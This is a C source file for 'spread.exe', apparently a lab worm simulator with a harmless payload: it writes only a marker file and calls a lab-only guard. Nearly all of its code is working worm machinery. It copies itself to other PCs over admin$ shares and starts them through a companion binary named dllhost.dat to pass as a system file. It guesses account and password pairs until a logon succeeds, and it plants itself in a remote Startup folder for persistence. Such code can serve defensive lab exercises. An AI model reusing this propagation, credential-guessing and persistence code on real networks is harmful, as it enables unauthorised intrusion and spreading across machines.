/*
 * spread.exe: goes from PC to PC as worms do, harmless and only where its command line says. It carries nothing and
 * leaves one small file where it arrives.
 *
 *   spread.exe                                      it has arrived: writes C:\windows\temp\tsu-arrived.txt
 *   spread.exe remote KIND ACCOUNT PASSWORD HOST... copies itself over admin$ to the first host and has it started
 *                                                   there by its own tool, which lies under the name dllhost.dat;
 *                                                   the rest of the hosts goes with it
 *   spread.exe startup HOST                         copies itself into the Startup folder there
 *   spread.exe guess HOST ACCOUNT PASSWORD ...      tries accounts until one may log on and start it
 *   dllhost.dat \\HOST KIND ACCOUNT PASSWORD COMMAND LINE    the tool: asks the service host there
 *
 * What the service host understands stands in docs/lan.md.
 */
#include <winsock2.h>
#include <stdio.h>
#include <string.h>

#include "files.h"
#include "guard.h"

#define TOOL "C:\\windows\\dllhost.dat"
#define THERE "C:\\windows\\tsu-spread.exe"
#define ARRIVED "C:\\windows\\temp\\tsu-arrived.txt"
#define STARTUP "users\\lab\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\tsu-spread.exe"
#define SERVICE_PORT 7445
#define LINE 4096

enum { DONE = 0, NOT_COPIED = 3, NOT_STARTED = 4, REFUSED = 5, WRONG_USE = 6 };

/* Says one line to the service host and takes its answer. */
static int ask(const char *host, const char *kind, const char *account, const char *password, const char *command)
{
    char line[LINE];
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(SERVICE_PORT) };
    SOCKET link = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
    struct hostent *found = gethostbyname(host);
    int length, got = 0;

    if (link == INVALID_SOCKET || !found)
        return NOT_STARTED;
    memcpy(&address.sin_addr, found->h_addr_list[0], sizeof address.sin_addr);
    length = snprintf(line, sizeof line, "%s\t%s\t%s\t%s\n", kind, account, password, command);
    if (connect(link, (struct sockaddr *)&address, sizeof address) == 0 && send(link, line, length, 0) == length)
        got = recv(link, line, sizeof line - 1, 0);
    closesocket(link);
    line[got > 0 ? got : 0] = 0;
    print_line(got > 0 ? line : "no answer");
    if (strncmp(line, "started ", 8) == 0)
        return DONE;
    return strncmp(line, "refused", 7) == 0 ? REFUSED : NOT_STARTED;
}

/* Starts the tool and waits for what it has to say. */
static int run_tool(char *command)
{
    STARTUPINFOA startup = { .cb = sizeof startup };
    PROCESS_INFORMATION process;
    DWORD code = NOT_STARTED;

    if (!CreateProcessA(TOOL, command, NULL, NULL, FALSE, 0, NULL, NULL, &startup, &process))
        return NOT_STARTED;
    WaitForSingleObject(process.hProcess, INFINITE);
    GetExitCodeProcess(process.hProcess, &code);
    CloseHandle(process.hThread);
    CloseHandle(process.hProcess);
    return code;
}

static int spread(const char *self, int hosts, char **host, const char *kind, const char *account, const char *password)
{
    char share[MAX_PATH], command[LINE];
    int at;

    snprintf(share, sizeof share, "\\\\%s\\admin$\\tsu-spread.exe", host[0]);
    if (!CopyFileA(self, TOOL, FALSE) || !CopyFileA(self, share, FALSE))
        return NOT_COPIED;
    at = snprintf(command, sizeof command, "%s \\\\%s %s %s %s %s", TOOL, host[0], kind, account, password, THERE);
    if (hosts > 1)
        at += snprintf(command + at, sizeof command - at, " remote %s %s %s", kind, account, password);
    for (int i = 1; i < hosts && at < (int)sizeof command; i++)
        at += snprintf(command + at, sizeof command - at, " %s", host[i]);
    return run_tool(command);
}

static int guess(const char *self, const char *host, int words, char **word)
{
    char share[MAX_PATH];

    snprintf(share, sizeof share, "\\\\%s\\admin$\\tsu-spread.exe", host);
    if (!CopyFileA(self, share, FALSE))
        return NOT_COPIED;
    for (int i = 0; i + 1 < words; i += 2)
        if (ask(host, "service", word[i], word[i + 1], THERE) == DONE)
            return DONE;
    return REFUSED;
}

/* The rest of the command line, from the given word on, as it stands there. */
static const char *from_word(int number)
{
    const char *at = GetCommandLineA();

    for (int i = 0; i < number; i++) {
        int quoted = 0;
        for (; *at && (quoted || *at != ' '); at++)
            quoted ^= *at == '"';
        while (*at == ' ')
            at++;
    }
    return at;
}

int main(int count, char **word)
{
    WSADATA winsock;
    char self[MAX_PATH];

    only_inside_the_lab();
    if (WSAStartup(MAKEWORD(2, 2), &winsock) || !GetModuleFileNameA(NULL, self, sizeof self))
        return NOT_STARTED;
    if (count == 1)
        return write_file(ARRIVED, "arrived", 7) ? DONE : NOT_COPIED;
    if (count >= 6 && strncmp(word[1], "\\\\", 2) == 0)
        return ask(word[1] + 2, word[2], word[3], word[4], from_word(5));
    if (count >= 6 && strcmp(word[1], "remote") == 0)
        return spread(self, count - 5, word + 5, word[2], word[3], word[4]);
    if (count >= 5 && strcmp(word[1], "guess") == 0)
        return guess(self, word[2], count - 3, word + 3);
    if (count == 3 && strcmp(word[1], "startup") == 0) {
        char share[MAX_PATH];
        snprintf(share, sizeof share, "\\\\%s\\C$\\" STARTUP, word[2]);
        return CopyFileA(self, share, FALSE) ? DONE : NOT_COPIED;
    }
    return WRONG_USE;
}
